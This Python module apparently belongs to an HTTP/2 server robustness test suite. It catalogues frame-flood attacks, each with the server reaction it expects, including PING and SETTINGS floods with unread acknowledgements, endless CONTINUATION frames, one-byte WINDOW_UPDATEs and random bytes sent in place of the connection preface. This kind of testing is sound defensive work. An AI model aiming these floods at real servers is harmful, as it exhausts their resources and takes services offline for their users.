"""Frames that are cheap to send: noise, and what makes the other end answer."""
import itertools, os
from attacker import (
    CONTINUATION, DATA, END_HEADERS, HEADERS, PING, PRIORITY, PUSH_PROMISE, frame, request, settings, window)
from catalog import attack
from on_streams import CALM, INVOKE, LIST, run, streams

PINGS = frame(PING, 0, 0, b"12345678")


@attack(8, "nothing is kept", CALM, counts=(100_000, 2_000_000), counted=("flood",))
def pings(target, count):
    """PING flood, its acknowledgements read."""
    return run(target, itertools.repeat(PINGS, count))


@attack(24, "what fits our bound of unsent frames", CALM, "closed", "silent", counts=(200_000, 4_000_000), counted=("flood",))
def pings_unread(target, count):
    """PING flood, its acknowledgements never read."""
    return run(target, itertools.repeat(PINGS, count), 5, reads=False, receive_bytes=4096)


@attack(8, "nothing is kept", CALM, counts=(100_000, 1_000_000), counted=("flood",))
def settings_flood(target, count):
    """SETTINGS flood, read."""
    return run(target, itertools.repeat(settings({3: 100}), count))


@attack(24, "what fits our bound of unsent frames", CALM, "closed", "silent", counts=(200_000, 4_000_000), counted=("flood",))
def settings_unread(target, count):
    """SETTINGS flood, its acknowledgements never read."""
    return run(target, itertools.repeat(settings({3: 100}), count), 5, reads=False, receive_bytes=4096)


@attack(24, "the streams", CALM, counts=(50_000, 500_000))
def settings_over_streams(target, count):
    """SETTINGS that change the window of 1,000 streams at a time."""
    opened = [request(s, INVOKE, end=False) for s in streams(1000)]
    changes = (settings({4: 65_535 + i % 2}) for i in range(count))
    return run(target, itertools.chain(opened, changes))


@attack(8, "nothing is kept", CALM, counts=(100_000, 1_000_000), counted=("work",))
def empty_data(target, count):
    """DATA frames of no bytes on an open stream."""
    return run(target, itertools.chain([request(1, INVOKE, end=False)], itertools.repeat(frame(DATA, 0, 1), count)))


@attack(8, "nothing is kept", CALM, counts=(100_000, 1_000_000), counted=("work",))
def window_updates(target, count):
    """WINDOW_UPDATEs of one byte for the connection."""
    return run(target, itertools.repeat(window(0, 1), count))


@attack(8, "nothing is kept", CALM, counts=(100_000, 1_000_000), counted=("work",))
def priorities(target, count):
    """PRIORITY frames for streams there are none of."""
    return run(target, (
        frame(PRIORITY, 0, s, (0).to_bytes(4, "big") + b"\x10") for s in itertools.islice(itertools.cycle(streams(5000)), count)))


@attack(8, "nothing is kept", CALM, counts=(100_000, 1_000_000), counted=("work",))
def unknown_frames(target, count):
    """Frames of unknown types."""
    return run(target, (frame(0xfa, i & 0xff, 2 * i + 1, b"") for i in range(count)))


@attack(8, "nothing is kept", "GOAWAY PROTOCOL_ERROR", counts=(1, 1))
def push_promise(target, count):
    """PUSH_PROMISE from a client."""
    return run(target, [frame(PUSH_PROMISE, END_HEADERS, 1, (2).to_bytes(4, "big") + LIST)])


@attack(8, "nothing is kept", CALM, "GOAWAY PROTOCOL_ERROR", "GOAWAY STREAM_CLOSED", counts=(100_000, 1_000_000),
        counted=("work",))
def frames_on_closed_streams(target, count):
    """RST_STREAM and WINDOW_UPDATE for a stream that is over."""
    return run(target, itertools.chain([request(1, LIST, b"")], itertools.repeat(window(1, 1), count)))


@attack(8, "nothing is kept", CALM, "GOAWAY PROTOCOL_ERROR", "closed", counts=(2_000, 100_000))
def continuations(target, count):
    """CONTINUATIONs of 16 KiB without an end."""
    return run(target, itertools.chain(
        [frame(HEADERS, 0, 1, INVOKE)], itertools.repeat(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 3276), count)), acks=False)


@attack(8, "nothing is kept", CALM, "GOAWAY PROTOCOL_ERROR", "closed", counts=(100_000, 1_000_000))
def tiny_continuations(target, count):
    """CONTINUATIONs of one byte, or none, without an end."""
    piece = b"\0\x7f\xff\xff\x02" + b"x" * 100  # a field with a long name, byte by byte
    return run(target, itertools.chain(
        [frame(HEADERS, 0, 1, INVOKE)],
        (frame(CONTINUATION, 0, 1, piece[i:i + 1]) for i in range(count))), acks=False)


@attack(8, "nothing is kept", "GOAWAY", "closed", counts=(20, 500))
def garbage_after_preface(target, count):
    """Random bytes after the preface; as frames they mean anything."""
    verdicts = [run(target, [os.urandom(4096) * 8])[0] for _ in range(count)]
    return [each if each == "closed" else " ".join(each.split(":")[0].split()[:2]) for each in verdicts], None


@attack(8, "nothing is kept", "GOAWAY PROTOCOL_ERROR", "closed", counts=(20, 500))
def garbage_before_preface(target, count):
    """Random bytes in place of the preface."""
    return [run(target, [os.urandom(4096)], preface=False)[0] for _ in range(count)], None
